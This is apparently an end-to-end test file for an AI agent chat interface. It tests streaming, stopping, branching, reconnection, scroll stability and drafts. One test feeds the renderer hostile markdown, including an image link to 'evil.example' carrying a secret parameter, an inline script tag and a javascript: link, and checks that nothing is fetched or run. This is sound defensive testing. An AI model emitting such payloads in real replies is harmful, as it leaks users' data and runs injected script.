/** Talking to an agent, as the person and everybody who looks on sees it. */
import { ConvexHttpClient } from "convex/browser";
import type { Page, WebSocketRoute } from "playwright-core";
import { expect, test } from "vitest";
import { api } from "../../../convex/_generated/api";
import type { Id } from "../../../convex/_generated/dataModel";
import { complaintsAbout, useWorld, WIDTHS } from "./world";

const world = useWorld();

const STORY = Array.from({ length: 40 }, (_, n) => `Sentence ${n} of a longer story.`).join(" ");
/** In the middle of the story, until it is let go on: what is done meanwhile takes as long as it takes. */
const HELD = { kind: "hold", afterPieces: 60 } as const;
const goOn = () => world().simulator.control.release();

const reply = (page: Page) => page.getByRole("article", { name: "Demo agent" }).last();
const shown = async (page: Page) => (await reply(page).textContent()) ?? "";

/** Begins a conversation; the model waits in the middle of its reply. */
async function ask(page: Page, question: string, text = STORY): Promise<void> {
  world().simulator.control.reply({ text });
  world().simulator.control.fault({ fault: HELD });
  await page.goto(world().address("chat/new"));
  await page.getByLabel("Message").fill(question);
  await page.keyboard.press("Enter");
  await page.getByRole("article", { name: "You" }).getByText(question).waitFor();
  await expect.poll(() => shown(page)).toContain("Sentence 3");
}

/** A page whose connection to the deployment can be cut, and stays away until it is mended. */
async function cuttable(page: Page) {
  let isCut = false;
  const lines: WebSocketRoute[] = [];
  await page.routeWebSocket(/\/sync$/, (line) => {
    if (isCut) return void line.close();
    line.connectToServer();
    lines.push(line);
  });
  return {
    cut: () => {
      isCut = true;
      for (const line of lines.splice(0)) void line.close();
    },
    mend: () => {
      isCut = false;
    },
  };
}

test("a reply streams in, two windows show it alike, and a reload in the middle loses nothing", async () => {
  const page = await world().owner();
  await ask(page, "Tell me a story");
  const second = await world().owner(WIDTHS.phone);
  await second.goto(page.url());
  await expect.poll(() => shown(second)).toContain("Sentence 4");
  const before = await shown(page);
  expect(before).not.toContain("Sentence 39");
  await page.reload();
  await expect.poll(() => shown(page)).toContain(before.trim().slice(0, -1));
  goOn();
  for (const one of [page, second]) await expect.poll(() => shown(one)).toContain("Sentence 39");
  await expect.poll(() => shown(second)).toMatch(/\$0\.0/);
  await page.getByText("The agent is done").waitFor();
  expect([...(await complaintsAbout(page)), ...(await complaintsAbout(second))]).toEqual([]);
});

test("the stop button ends it, with what had arrived; asking again makes a branch", async () => {
  const page = await world().owner();
  await ask(page, "Another one");
  const first = page.url();
  await page.getByRole("button", { name: "Stop the reply" }).click();
  await reply(page).getByText("The run was cancelled.").waitFor();
  expect(await shown(page)).toContain("Sentence 3");
  expect(await shown(page)).not.toContain("Sentence 39");

  world().simulator.control.reply({ text: "A short one." });
  await page.getByRole("button", { name: "Ask again, in a branch" }).click();
  await expect.poll(() => shown(page)).toContain("A short one.");
  expect(page.url()).not.toBe(first);
  await page.getByRole("link", { name: "Branch" }).click();
  await expect.poll(() => page.url()).toBe(first);
});

test("without a connection it says so, and catches up by itself", async () => {
  const page = await world().stranger();
  const line = await cuttable(page);
  await page.goto(world().ready.dashboardUrl);
  await page.getByRole("heading", { name: "Home" }).waitFor();
  await ask(page, "One for the road");
  line.cut();
  await page.getByText("Reconnecting").waitFor();
  const before = await shown(page);
  goOn();
  line.mend();
  await expect.poll(() => shown(page)).toContain("Sentence 39");
  expect(before).not.toContain("Sentence 39");
  await page.getByText("Reconnecting").waitFor({ state: "detached" });
});

test("what a model writes brings no picture, no markup and no address that says where it comes from", async () => {
  const page = await world().owner();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  const text = [
    "![stolen](https://evil.example/?secret=1)",
    "<img src='https://evil.example/2'><script>window.evil = 1</script>",
    "[a link](https://elsewhere.example/page) and [another](javascript:window.evil=2)",
    "| one<br>two |\n| --- |",
    "Sentence 3",
  ].join("\n\n");
  await ask(page, "Be evil", text);
  goOn();
  await page.getByText("The agent is done").waitFor({ state: "attached" });
  const link = reply(page).getByRole("link", { name: "a link" });
  expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(await link.textContent()).toBe("a link (elsewhere.example)");
  expect(await reply(page).getByRole("link").count()).toBe(1);
  expect(await page.evaluate(() => "evil" in window)).toBe(false);
  expect(await shown(page)).toContain("<script>window.evil = 1</script>");
  expect(await reply(page).locator("th").innerText()).toBe("one\ntwo");
  expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
});

test("code that a model writes has the colours of its language, during its stream and after a reload", async () => {
  const page = await world().owner();
  const line = 'export const answer: string = "Sentence 3";';
  await ask(page, "Code, please", ["```ts", line, "```", STORY].join("\n"));
  const colours = async () => {
    const coloured = reply(page).locator("code span[style*='--sdm-c']");
    const found = await coloured.evaluateAll((spans) =>
      spans.map((one) => getComputedStyle(one).color),
    );
    return new Set(found).size;
  };
  await expect.poll(colours).toBeGreaterThan(2);
  expect(await reply(page).locator("pre").textContent()).toBe(line);
  goOn();
  await page.getByText("The agent is done").waitFor({ state: "attached" });
  await page.reload();
  await expect.poll(colours).toBeGreaterThan(2);
  expect(await complaintsAbout(page)).toEqual([]);
});

/** A program beside the page, that talks in a session. */
function program() {
  const { apiUrl, apiKey, agentId } = world().ready;
  const client = new ConvexHttpClient(apiUrl, { logger: false });
  const isDone = async (sessionId: Id<"sessions">) => {
    const session = await client.query(api.queries.sessions.get, { apiKey, sessionId });
    return session.activeRunId === undefined;
  };
  return async (content: string, sessionId?: Id<"sessions">) => {
    const where = sessionId === undefined ? { agentId: agentId as Id<"agents"> } : { sessionId };
    const said = { apiKey, content, idempotencyKey: crypto.randomUUID(), ...where };
    const sent = await client.mutation(api.mutations.messages.send, said);
    await expect.poll(() => isDone(sent.sessionId)).toBe(true);
    return sent.sessionId;
  };
}

test("who reads what was said before stays there, whatever comes before or after it", async () => {
  const say = program();
  world().simulator.control.reply({ text: STORY });
  const sessionId = await say("Question 1");
  for (let turn = 2; turn <= 9; turn++) await say(`Question ${turn}`, sessionId);
  const page = await world().owner();
  await page.goto(world().address(`chat/${sessionId}`));
  const articles = page.getByRole("article");
  const frame = page.getByRole("region", { name: "What was said" });
  const fromEnd = () =>
    frame.evaluate((one) => one.scrollHeight - one.scrollTop - one.clientHeight);
  await page.getByText("Question 9", { exact: true }).waitFor();
  await expect.poll(fromEnd).toBeLessThan(2);
  expect(await articles.count()).toBe(15);

  // Older ones come above what is read, and not in its place: at the very top, too.
  await frame.evaluate((one) => one.scrollTo(0, 0));
  await expect.poll(() => articles.count()).toBe(18);
  expect(await frame.evaluate((one) => one.scrollTop)).toBeGreaterThan(100);

  const read = page.getByText("Question 5", { exact: true });
  const top = async () => (await read.boundingBox())?.y ?? NaN;
  await read.evaluate((one) => one.scrollIntoView({ block: "start" }));
  await expect.poll(fromEnd).toBeGreaterThan(100);
  const before = await top();
  world().simulator.control.reply({ text: STORY });
  await say("Question 10", sessionId);
  await page.getByText("Question 10", { exact: true }).waitFor({ state: "attached" });
  expect(Math.abs((await top()) - before)).toBeLessThan(3);
});

test("what is typed is there again after a look elsewhere and a reload; sent, it is gone", async () => {
  const page = await world().owner();
  await page.goto(world().address("chat/new"));
  await page.getByLabel("Message").fill("Half a sent");
  await page.getByRole("link", { name: "Costs" }).click();
  await page.getByRole("heading", { name: "Costs" }).waitFor();
  await page.goBack();
  await expect.poll(() => page.getByLabel("Message").inputValue()).toBe("Half a sent");
  await page.reload();
  await expect.poll(() => page.getByLabel("Message").inputValue()).toBe("Half a sent");
  world().simulator.control.reply({ text: "Heard." });
  await page.getByLabel("Message").press("End");
  await page.keyboard.type("ence");
  await page.keyboard.press("Enter");
  await page.getByRole("article", { name: "You" }).getByText("Half a sentence").waitFor();
  // Whoever has begun a conversation goes on writing.
  await expect
    .poll(() => page.getByLabel("Message").evaluate((one) => one === document.activeElement))
    .toBe(true);
  await page.goto(world().address("chat/new"));
  expect(await page.getByLabel("Message").inputValue()).toBe("");
});

test("a click beside a form keeps what is typed; two clicks make one branch", async () => {
  const page = await world().owner();
  await ask(page, "To be put otherwise", "Sentence 3.");
  const list = page.getByRole("navigation", { name: "Conversations" }).getByRole("link");
  const here = new URL(page.url()).pathname;
  await page.locator(`nav[aria-label="Conversations"] a[href="${here}"]`).waitFor();
  const before = await list.count();
  await page.getByRole("button", { name: "Say it in other words" }).click();
  const dialog = page.getByRole("dialog", { name: "In other words" });
  await dialog.getByLabel("Message").fill("Put otherwise");
  await page.mouse.click(5, 400);
  expect(await dialog.getByLabel("Message").inputValue()).toBe("Put otherwise");
  await dialog.getByRole("button", { name: "Send" }).dblclick();
  await page.getByRole("article", { name: "You" }).getByText("Put otherwise").waitFor();
  await page.getByText("The agent is done").waitFor({ state: "attached" });
  await expect.poll(() => list.count()).toBe(before + 1);
});

test("an id that is none, and words longer than a search takes, leave the screen as it is", async () => {
  const page = await world().owner();
  await page.goto(world().address("chat/nonsense"));
  await page.getByText("There is no such page").waitFor();
  expect(world().problems).toEqual([]);
  await page.getByRole("searchbox").fill("word ".repeat(60));
  await page.getByText("No title has these words").waitFor();
});
